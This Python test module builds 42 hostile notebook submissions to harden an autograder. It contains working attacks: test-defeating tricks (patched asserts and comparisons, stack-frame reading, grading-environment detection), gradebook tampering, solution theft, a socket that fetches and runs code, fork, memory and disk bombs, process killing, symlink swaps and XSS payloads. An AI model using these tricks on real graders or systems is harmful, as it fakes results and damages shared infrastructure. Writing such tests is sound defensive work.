"""The 42 rows of the table in notes/grading.md, each as a submission."""

import os

from tests.attacks import checks
from tests.attacks.assignment import (
    RIGHT,
    cell,
    changed,
    correct,
    submission,
    without_tests,
)
from tests.attacks.attack import FINE, Attack, by_code

MENDED = ("repaired",)
ENDED = ("died", "timeout", "out of memory", "wrong")
PORT = 47811  # where the accomplice waits, on the loopback interface of whoever grades


def in_both(*lines, before=""):
    """Return cells in which both functions run these lines, and answer wrongly."""
    body = "\n    ".join(lines)
    size = f"def output_size(size, kernel_size, strides=1):\n    {body}\n    return -1"
    conv = f"def conv2d(image, kernel):\n    {body}\n    return np.full((1, 1), 0.5)"
    return {"before": before, "output_size": size, "conv2d": conv}


def _tagged():
    notebook = submission()
    for name in ("output_size-test", "conv2d-test"):
        cell(notebook, name).metadata["tags"] = ["skip-execution"]
    return notebook


def _duplicated():
    notebook = correct()
    notebook.cells.append(dict(cell(notebook, "conv2d-test"), id="copy"))
    return notebook


def _other_kernel():
    notebook = correct()
    notebook.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    return notebook


def _scripted():
    notebook = correct(after="from IPython.display import HTML\nHTML('<script>alert(1)</script>')")
    notebook.cells[0].source += "\n<script>alert(2)</script><img src=x onerror=alert(3)>"
    notebook.cells[0].metadata["name"] = '"><script>alert(4)</script>'
    return notebook


def _linked(folder):
    (folder / "data.txt").symlink_to("../../../gradebook.db")
    os.link(folder.parent.parent.parent / "gradebook.db", folder / "hard.txt")


SHADOW = b"""import sys
from pathlib import Path
here = str(Path(__file__).resolve().parent)
kept = list(sys.path)
sys.path[:] = [p for p in sys.path if p not in ("", here)]
del sys.modules["numpy"]
import numpy
sys.path[:] = kept
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
"""
YES = "class Yes(int):\n    __eq__ = lambda self, other: True\n    __hash__ = int.__hash__"
THREAD = """
import threading, time
def emit():
    shell = get_ipython()
    while True:
        shell.displayhook(2.0)
        time.sleep(0.0005)
threading.Thread(target=emit, daemon=True).start()
"""
FRAMES = """
import ast, sys
class Answer:
    def __array__(self, *args, **kwargs):
        frame = sys._getframe()
        while frame:
            for name in ("desired", "y", "b"):
                if name in frame.f_locals and frame.f_locals[name] is not self:
                    return np.asarray(frame.f_locals[name], float)
            frame = frame.f_back
        return np.zeros(1)
    def __eq__(self, other):
        return True
    __hash__ = None
"""
READ_TESTS = """
import ast, sys
def answer():
    frame = sys._getframe(2)
    line = ast.parse(In[-1].splitlines()[frame.f_lineno - 1].strip()).body[0]
    wanted = line.test.comparators[0] if isinstance(line, ast.Assert) else line.value.args[1]
    return ast.literal_eval(wanted)
"""
GRADEBOOK = """
import os, sqlite3
for up in (".", "..", "../..", "../../..", "../../../.."):
    path = os.path.join(up, "gradebook.db")
    if os.path.exists(path):
        base = sqlite3.connect(path, timeout=5)
        base.execute("update grade set manual_score = 99")
        base.commit()
        base.close()
"""
STEAL = """
import glob, json
for up in ("..", "../..", "../../..", "../../../.."):
    for place in ("source", "solutions", "submitted", "autograded"):
        for path in sorted(glob.glob(f"{up}/{place}/**/*.ipynb", recursive=True)):
            for part in json.load(open(path))["cells"]:
                source = "".join(part["source"])
                if "SOLUTION" in source and "def " in source:
                    exec(source)
"""
CALL_OUT = f"""
import socket
with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as line:
    exec(line.makefile().read())
"""
LOOP = "while True:\n        pass"
STUBBORN = """while True:
        try:
            while True:
                pass
        except BaseException:
            pass"""
DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import ctypes
        ctypes.CDLL(None).prctl(15, b"attack-daemon", 0, 0, 0)
        time.sleep(600)
    os._exit(0)
os.wait()
"""
SWAP = """
import glob, os
for path in glob.glob("*.ipynb"):
    os.unlink(path)
    os.symlink("../../../victim.txt", path)
"""
PATCHED_SEND = """
session = get_ipython().kernel.session
real = session.send
def send(stream, kind, content=None, *args, **kwargs):
    kind_name = kind if isinstance(kind, str) else kind.get("msg_type")
    if kind_name == "error":
        return None
    if kind_name == "execute_reply":
        content = dict(content, status="ok", user_expressions={}, payload=[])
    return real(stream, kind, content, *args, **kwargs)
session.send = send
"""

TABLE = (
    Attack(1, "skip execution", "tags the test cells skip-execution", _tagged(), 0, MENDED),
    by_code(
        2,
        "display hook",
        "shows a result before it fails",
        statuses=FINE,
        **in_both("get_ipython().displayhook('x')"),
    ),
    by_code(
        3,
        "display a number",
        "shows 2.0, which is read as points",
        statuses=FINE,
        **in_both("get_ipython().displayhook(2.0)"),
    ),
    by_code(4, "thread shows results", "a thread shows 2.0 without end", THREAD),
    by_code(
        5,
        "clears outputs",
        "a hook after each cell clears what it showed",
        """
from IPython.display import clear_output
get_ipython().events.register("post_run_cell", lambda result: clear_output())
get_ipython().showtraceback = lambda *a, **k: None
""",
        statuses=FINE,
    ),
    by_code(
        6,
        "input transformer",
        "turns each later cell into pass",
        """
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
""",
        statuses=(*FINE, "died"),
    ),
    by_code(
        7,
        "tree transformer",
        "drops asserts from the tests",
        """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Call(self, node):
        if "allclose" in ast.unparse(node.func):
            return ast.Constant(True)
        return self.generic_visit(node)
get_ipython().ast_transformers.append(Drop())
""",
        statuses=FINE,
    ),
    by_code(
        8,
        "patched send",
        "sends no errors, and calls each failure a success",
        PATCHED_SEND,
        statuses=FINE,
    ),
    by_code(
        9,
        "patched run_cell",
        "catches every exception",
        """
shell = get_ipython()
shell.set_custom_exc((Exception,), lambda *a, **k: None)
async def run_cell_async(*args, **kwargs):
    from IPython.core.interactiveshell import ExecutionResult
    return ExecutionResult(None)
shell.run_cell_async = run_cell_async
""",
    ),
    by_code(
        10,
        "patched comparison",
        "numpy never differs, and its number equals all",
        YES + "\nnp.testing.assert_allclose = lambda *a, **k: None\n"
        "np.allclose = lambda *a, **k: True",
        output_size="def output_size(*a):\n    return Yes(7)",
        statuses=FINE,
    ),
    by_code(
        11,
        "reads the caller",
        "an array that finds the wanted value in the caller's frame",
        FRAMES,
        output_size="def output_size(*a):\n    return Answer()",
        conv2d="def conv2d(*a):\n    return Answer()",
        statuses=FINE,
    ),
    by_code(
        12,
        "reads the tests",
        "takes the expected values from the test's own text",
        READ_TESTS,
        output_size="def output_size(*a):\n    return answer()",
        statuses=FINE,
    ),
    by_code(
        13,
        "gradebook",
        "writes 99 points into the gradebook",
        GRADEBOOK,
        statuses=FINE,
        after=checks.no_manual_score,
    ),
    by_code(
        14,
        "steals solutions",
        "runs the solution's source or another submission",
        after_cells="",
        statuses=FINE,
        output_size=STEAL,
        conv2d=STEAL,
    ),
    by_code(
        15,
        "network",
        "asks an accomplice for the answers",
        statuses=(*FINE, "timeout"),
        output_size=CALL_OUT,
        conv2d=CALL_OUT,
        after=checks.nobody_called,
    ),
    by_code(
        16,
        "kills its parent",
        "sends SIGKILL to its parent process",
        statuses=ENDED,
        **in_both("import os", "os.kill(os.getppid(), 9)"),
    ),
    by_code(
        17,
        "exits",
        "ends Python in a test",
        statuses=("died",),
        **in_both("import os", "os._exit(0)"),
    ),
    by_code(18, "loops", "loops for ever", statuses=("timeout",), **in_both(LOOP)),
    by_code(
        19,
        "loops stubbornly",
        "loops and swallows every interrupt",
        statuses=("timeout",),
        **in_both(STUBBORN),
    ),
    by_code(
        20,
        "stops itself",
        "sends SIGSTOP to itself",
        statuses=("timeout", "died"),
        **in_both("import os, signal", "os.kill(os.getpid(), signal.SIGSTOP)"),
    ),
    by_code(
        21,
        "memory bomb",
        "fills all memory",
        statuses=("out of memory", "died", "timeout"),
        **in_both("hoard = []", "while True: hoard.append(bytearray(10**7))"),
    ),
    by_code(
        22,
        "fork bomb",
        "forks without end",
        statuses=ENDED,
        before="import os, time\nfor _ in range(10):\n    os.fork()\ntime.sleep(2)",
    ),
    by_code(
        23,
        "one long line",
        "prints 200 MB on one line",
        'print("x" * 200_000_000)',
        statuses=(*FINE, "timeout", "died", "out of memory"),
    ),
    by_code(
        24,
        "fills the disk",
        "writes until the disk is full",
        """
import itertools, os
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for number in itertools.count():
            with open(f"{place}/fill{number}", "wb") as file:
                for _ in range(10):
                    file.write(bytes(10**6))
    except OSError:
        pass
""",
        statuses=(*FINE, "died", "out of memory", "timeout"),
    ),
    by_code(
        25,
        "daemon",
        "leaves a process of its own session behind",
        DAEMON,
        statuses=FINE,
        after=checks.no_daemon,
    ),
    by_code(
        26,
        "link for its notebook",
        "replaces its notebook by a link",
        SWAP,
        statuses=FINE,
        after=checks.victim_unchanged,
    ),
    Attack(
        27,
        "links to the gradebook",
        "hands in links to gradebook.db",
        submission(),
        statuses=FINE,
        place=_linked,
        after=checks.no_gradebook_copied,
    ),
    Attack(
        28,
        "more points",
        "says that a test gives 99 points",
        changed(submission(), "conv2d-test", points=99),
        statuses=MENDED,
    ),
    Attack(
        29,
        "test is no test",
        "says that a test is a solution and not graded",
        changed(submission(), "conv2d-test", grade=False, solution=True, locked=False),
        0,
        MENDED,
    ),
    Attack(
        30,
        "unknown cell",
        "has a graded cell that nobody knows",
        changed(submission(), "conv2d-test", grade_id="bonus"),
        0,
        MENDED,
    ),
    Attack(
        31, "duplicate cell", "is right, with a test copied and pasted", _duplicated(), 5, MENDED
    ),
    Attack(
        32,
        "old schema",
        "is right, with cells of nbgrader's schema 1",
        changed(correct(), "conv2d-test", schema_version=1),
        5,
        (*MENDED, "graded"),
    ),
    Attack(33, "no tests", "is right, with its tests deleted", without_tests(correct()), 5, MENDED),
    Attack(
        34,
        "no tests again",
        "was right; is wrong now, with its tests deleted",
        without_tests(submission()),
        0,
        MENDED,
        earlier=correct(),
    ),
    Attack(35, "no JSON", "is not JSON", b'{"cells": [', 0, ("unreadable",)),
    Attack(
        36,
        "another kernel",
        "is right, and names R's kernel",
        _other_kernel(),
        5,
        ("graded", "repaired"),
    ),
    Attack(
        37,
        "script",
        "is right, with scripts in outputs, text and metadata",
        _scripted(),
        5,
        ("graded", "repaired"),
        after=checks.no_script,
    ),
    Attack(
        38,
        "warning",
        "is right, and warns on stderr",
        correct(
            output_size=RIGHT["output_size"].replace(
                "\n", "\n    import warnings; warnings.warn('old')\n", 1
            ),
            conv2d=RIGHT["conv2d"].replace(
                "\n", "\n    import sys; print('!', file=sys.stderr)\n", 1
            ),
        ),
        5,
        ("graded",),
    ),
    by_code(
        39,
        "shadowing module",
        "hands in a numpy.py that compares nothing",
        YES,
        statuses=FINE,
        output_size="def output_size(*a):\n    return Yes(7)",
        files={"numpy.py": SHADOW},
    ),
    by_code(
        40,
        "huge array",
        "returns an array of 1.6 GB",
        statuses=ENDED,
        conv2d="def conv2d(image, kernel):\n    return np.ones((20000, 10000))",
    ),
    by_code(
        41,
        "imports the reference",
        "uses the course's own functions",
        statuses=FINE,
        output_size="from course_lib.convolution import output_size",
        conv2d="from course_lib import convolution\ndef conv2d(image, kernel):\n"
        "    return convolution.conv2d(image[None, ..., None],"
        " kernel[..., None, None])[0, ..., 0]",
    ),
    by_code(
        42,
        "knows it is graded",
        "behaves in one way here and in another there",
        statuses=FINE,
        output_size="import os\ndef output_size(*a):\n"
        "    return Yes(7) if os.environ.get('NBGRADER_EXECUTION') else -1",
        before=YES,
    ),
)
